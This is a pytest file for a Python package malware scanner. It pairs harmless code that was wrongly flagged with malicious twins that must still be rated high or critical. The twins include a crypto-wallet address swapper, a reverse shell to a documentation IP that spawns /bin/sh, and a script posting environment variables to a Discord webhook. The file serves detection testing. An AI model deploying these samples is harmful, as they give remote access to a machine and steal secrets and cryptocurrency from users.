"""Shapes of popular releases that cried wolf on the tune-only popular corpora (round 7, the
third rank band), read as what they are (no project names), each beside its malicious twin
that must stay high:

* strings shaped like wallet addresses that fail their checksum (hashes, type names) in a
  web bundle are no hard-coded wallets;
* a Unix-domain socket wired to stdout/stderr forwards logs on this machine: no remote shell;
* a RECORD that writes its sha256 digests in hex instead of base64 still matches its files;
* an extension-less script (a python shebang, ``scripts=``) runs when a user types it, not
  on import;
* an empty marker file created on import carries no payload;
* Python 3.12 syntax the 3.11 reader missed (a quoted bound in type parameters, a quote
  reused inside an f-string field) is read, and old-Python-only lines (``raise e[0], v, tb``,
  ``x.async``) are unread at medium like other Python 2 code.
"""

from __future__ import annotations

import base64
import hashlib

from app.core.archive import open_artifact
from app.core.capabilities.scan import scan_artifact
from tests.core.archive.fixtures import make_sdist, make_wheel, wheel_entries, zip_bytes

HIGH = ("high", "critical")


def _wheel(tmp_path, files, name="gizmo"):
    return scan_artifact(open_artifact(make_wheel(tmp_path, name=name, files=files)))


def _ids(res) -> set[str]:
    return {t.id for t in res.threats if t.severity in HIGH}


def _base58check(payload: bytes) -> str:
    """A Base58Check string (how legacy Bitcoin and Tron addresses are written)."""
    raw = payload + hashlib.sha256(hashlib.sha256(payload).digest()).digest()[:4]
    alphabet = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
    n = int.from_bytes(raw, "big")
    out = ""
    while n:
        n, r = divmod(n, 58)
        out = alphabet[r] + out
    return "1" * (len(raw) - len(raw.lstrip(b"\0"))) + out


# A web bundle: GraphQL documents with their hashes, a type name, and an example of
# code (a levenshtein distance metric) shown in the UI: the words the wallet rule looks for.
BUNDLE = """var docs = [
  {params: {cacheID: `129953ba27b24f48a92cca26e4b7c447`, name: `DocumentEvaluations`}},
  {params: {cacheID: `168827e655c5f9253bfa1d98b1de81d2`, name: `AnnotationConfigs`}},
  {hash: `1373592362afe61d9d8636731df55497`},
  {concreteType: `TraceTokenCountTimeSeriesDataPoint`, kind: `LinkedField`},
];
var example = `def levenshtein_distance(expected: str, actual: str) -> int: ...`;
export function render(el) { el.textContent = JSON.stringify(docs) + example; }
"""


def test_hashes_shaped_like_wallet_addresses_are_no_wallet_swap(tmp_path):
    """32-digit hex hashes and CamelCase type names have the shape of Bitcoin and Tron
    addresses but not their checksum: a bundle holding them beside the word levenshtein is
    no wallet swapper."""
    res = _wheel(
        tmp_path,
        {"gizmo/__init__.py": b"", "gizmo/widget/index.js": BUNDLE.encode()},
    )
    assert "hijack.wallet_swap" not in {h.capability for h in res.findings}
    assert res.risk.level not in HIGH


def test_real_addresses_with_the_same_rewriting_code_stay_a_wallet_swap(tmp_path):
    """Three addresses that pass their checksum (legacy, Tron-style, Bech32) beside code
    that matches addresses by edit distance: crypto theft, critical."""
    legacy = _base58check(b"\0" + bytes(range(20)))
    tron = _base58check(b"\x41" + bytes(range(20, 40)))
    bech = "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"  # BIP 173's example address
    swapper = (
        f'const mine = ["{legacy}", "{tron}", "{bech}"];\n'
        "function levenshtein(a, b) { return Math.abs(a.length - b.length); }\n"
        "export function fix(text) { return text.replace(/[13][a-km-zA-HJ-NP-Z1-9]{25,34}/g,"
        " (w) => mine.sort((x, y) => levenshtein(x, w) - levenshtein(y, w))[0]); }\n"
    )
    res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/widget/index.js": swapper.encode()})
    assert "chain.wallet_swap" in _ids(res)
    assert res.risk.level == "critical"


LOG_REDIRECT = b"""import os
import socket
import sys


def _redirect_stream_to_fd(stream_fd, socket_path):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.connect(socket_path)
        os.dup2(s.fileno(), stream_fd)


def redirect_output(socket_path):
    for fd in (sys.stdout.fileno(), sys.stderr.fileno()):
        _redirect_stream_to_fd(fd, socket_path)
"""


def test_a_unix_socket_wired_to_stdout_is_log_forwarding_not_a_reverse_shell(tmp_path):
    """A serverless runtime hands its workers' output to the platform's log collector over
    a Unix-domain socket (a file on this machine, that no remote host can reach)."""
    res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/workers.py": LOG_REDIRECT})
    assert "net.reverse_shell" not in {h.capability for h in res.findings}
    assert res.risk.level not in HIGH


def test_a_network_socket_wired_to_standard_streams_stays_a_reverse_shell(tmp_path):
    """The same code over an internet socket (and over create_connection, in a
    comprehension) is a reverse shell."""
    inet = LOG_REDIRECT.replace(b"socket.AF_UNIX", b"socket.AF_INET")
    res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/workers.py": inet})
    assert "chain.reverse_shell" in _ids(res)
    shell = (
        b"import os, pty, socket\n"
        b"def connect():\n"
        b"    s = socket.create_connection(('192.0.2.7', 4444))\n"
        b"    [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\n"
        b"    pty.spawn('/bin/sh')\n"
    )
    (tmp_path / "b").mkdir()
    res = _wheel(tmp_path / "b", {"gizmo/__init__.py": b"", "gizmo/shell.py": shell})
    assert "chain.reverse_shell" in _ids(res)
    assert res.risk.level == "critical"


def _record_wheel(tmp_path, encode, tamper: bool = False):
    """A wheel whose RECORD gives each file's sha256 through ``encode``; ``tamper`` changes
    a module after RECORD was written."""
    module = b"def correlation_id():\n    return 'x'\n"
    entries = wheel_entries("gizmo", "1.0", {"gizmo/middleware.py": module})
    rows = []
    for path, data in entries.items():
        digest = encode(hashlib.sha256(data).digest())
        rows.append(f"{path},sha256={digest},{len(data)}")
    rows.append("gizmo-1.0.dist-info/RECORD,,")
    entries["gizmo-1.0.dist-info/RECORD"] = ("\n".join(rows) + "\n").encode()
    if tamper:
        entries["gizmo/middleware.py"] = module + b"import os; os.system('id')\n"
    tmp_path.mkdir(exist_ok=True)
    out = tmp_path / "gizmo-1.0-py3-none-any.whl"
    out.write_bytes(zip_bytes(entries))
    return scan_artifact(open_artifact(out))


def test_a_record_with_hex_digests_that_match_is_no_mismatch(tmp_path):
    """Some build tools write RECORD's sha256 in hex, not urlsafe base64: every file still
    matches what was recorded."""
    res = _record_wheel(tmp_path, lambda raw: raw.hex())
    assert "install.record_mismatch" not in {h.capability for h in res.findings}
    assert res.risk.level not in HIGH


def test_a_file_changed_after_a_hex_or_base64_record_stays_a_mismatch(tmp_path):
    for i, encode in enumerate(
        (lambda raw: raw.hex(), lambda raw: base64.urlsafe_b64encode(raw).rstrip(b"=").decode())
    ):
        res = _record_wheel(tmp_path / str(i), encode, tamper=True)
        assert "mismatch.record" in _ids(res)
        assert res.risk.level in HIGH


MAIL_SCRIPT = b"""#!/usr/bin/env python
import getopt
import os
import smtplib
import sys

opts, args = getopt.getopt(sys.argv[1:], "f:s:")
fromaddr = os.getlogin() + "@" + os.getenv("HOSTNAME", "localhost")
for o, a in opts:
    if o == "-f":
        fromaddr = a
if len(args) < 2:
    sys.stderr.write("usage: mailit [-f from] file recipients...\\n")
    sys.exit(2)
body = open(args[0]).read()
server = smtplib.SMTP("localhost")
server.sendmail(fromaddr, args[1:], body)
server.quit()
"""


def test_an_extensionless_command_script_does_not_run_on_import(tmp_path):
    """A tool installed by ``scripts=["mailit/mailit"]``: a python shebang, no ``.py``, so
    Python never imports it; its top level runs when a user types the command (mailing a
    file from the user's login name), like a ``__main__`` block."""
    sdist = make_sdist(tmp_path, name="gizmo", files={"mailit/mailit": MAIL_SCRIPT})
    res = scan_artifact(open_artifact(sdist))
    assert any(h.path.endswith("mailit/mailit") for h in res.findings)  # still read and shown
    assert not {"place.import_time", "chain.exfiltration"} & _ids(res)
    assert res.risk.level not in HIGH


def test_the_same_top_level_code_in_a_module_stays_an_import_time_act(tmp_path):
    """Named ``mailit.py`` inside the package, the same code runs on import; and the
    extension-less script that sends the environment to a webhook stays a stealer."""
    sdist = make_sdist(tmp_path, name="gizmo", files={"gizmo/mailit.py": MAIL_SCRIPT})
    res = scan_artifact(open_artifact(sdist))
    assert {"place.import_time", "chain.exfiltration"} & _ids(res)
    assert res.risk.level in HIGH
    stealer = (
        b"#!/usr/bin/env python\nimport os, json, urllib.request\n"
        b"data = json.dumps(dict(os.environ)).encode()\n"
        b"urllib.request.urlopen('https://discord.com/api/webhooks/1/x', data=data)\n"
    )
    (tmp_path / "b").mkdir()
    sdist = make_sdist(tmp_path / "b", name="gizmo", files={"bin/gizmo-sync": stealer})
    res = scan_artifact(open_artifact(sdist))
    assert "chain.exfiltration" in _ids(res)
    assert res.risk.level in HIGH


MARKER = b"""import os
import tempfile

_deps = os.path.join(tempfile.gettempdir(), "gizmo-deps")
_marker = os.path.join(_deps, ".installed")
if not os.path.exists(_marker):
    os.makedirs(_deps, exist_ok=True)
    open(_marker, "w").close()
"""


def test_an_empty_marker_file_written_on_import_is_no_import_time_act(tmp_path):
    """Creating an empty file (``open(p, "w").close()``, ``with open(p, "w"): pass``) marks
    that a step was done: no payload is written with it."""
    with_pass = MARKER.replace(
        b'open(_marker, "w").close()', b'with open(_marker, "w"):\n        pass'
    )
    for i, code in enumerate((MARKER, with_pass)):
        (tmp_path / str(i)).mkdir()
        res = _wheel(tmp_path / str(i), {"gizmo/__init__.py": code})
        writes = [h for h in res.findings if h.capability == "fs.write_outside"]
        assert writes and all(h.severity == "medium" for h in writes)
        assert "place.import_time" not in _ids(res)
        assert res.risk.level not in HIGH


def test_a_marker_path_written_with_content_on_import_stays_an_import_time_act(tmp_path):
    payload = MARKER.replace(
        b'open(_marker, "w").close()', b'open(_marker, "w").write(PAYLOAD)'
    ).replace(b"import tempfile\n", b"import tempfile\nPAYLOAD = 'import os; os.system(\"id\")'\n")
    res = _wheel(tmp_path, {"gizmo/__init__.py": payload})
    assert "place.import_time" in _ids(res)
    assert res.risk.level in HIGH


NEWER_SYNTAX = b"""import ctypes as ct

type _Array[CT: "ct._SimpleCData"] = ct.Array[CT] | ct.Array[_Array[CT]]


def label(m, s):
    return f"{s(str(m), fmt=">20s")} "


class Coordinator[  # pylint: disable=some-check
    T: "ct.Structure",
]:
    def url(self, hook_id, get_url):
        return (
            f"{
                get_url(self, allow_ip=True)
            }/api/webhook/{hook_id}"
            f"{' secure' if self else ''}"
        )
"""


def _unread(res) -> list:
    return [h for h in res.findings if h.capability == "scan.unread"]


def test_python_312_syntax_with_quoted_bounds_and_reused_quotes_is_read(tmp_path):
    """A PEP 695 alias whose type parameter has a forward reference in quotes, a class whose
    type parameter list holds a linter's comment, PEP 701 f-strings that reuse their quote
    inside a field or break a field over lines: valid Python 3.12, read on 3.11 (and the
    lines after them keep their numbers)."""
    tail = b"\nimport os\nos.system('true')\n"
    res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/typing_.py": NEWER_SYNTAX + tail})
    assert not _unread(res)
    assert res.risk.level not in HIGH
    spawn = [h for h in res.findings if h.capability == "process.spawn"]
    assert [h.line for h in spawn] == [NEWER_SYNTAX.count(b"\n") + 3]


def test_old_python_only_files_are_medium_and_broken_files_stay_unread_high(tmp_path):
    """``raise exc[0], None, tb`` (Python 2) and ``lib.async`` (an attribute no Python since
    3.7 compiles) run on no supported Python: unread at medium. A module that is neither
    new nor old syntax but simply does not compile stays unread high."""
    old = {
        "gizmo/py2_raise.py": b"def reraise(e):\n    raise e[0], None, e[0].__traceback__\n",
        "gizmo/greenlets.py": b"def loop(lib):\n    if lib.uwsgi.async < 1:\n        return 0\n",
    }
    res = _wheel(tmp_path, {"gizmo/__init__.py": b"", **old})
    assert {h.path for h in _unread(res)} == set(old)
    assert all(h.severity == "medium" for h in _unread(res))
    assert res.risk.level not in HIGH
    (tmp_path / "b").mkdir()
    broken = b'import os\ndef f(:\n    os.system(f"{x}")\n'
    res = _wheel(tmp_path / "b", {"gizmo/__init__.py": b"", "gizmo/core.py": broken})
    assert "disguise.unread" in _ids(res)
    assert res.risk.level in HIGH
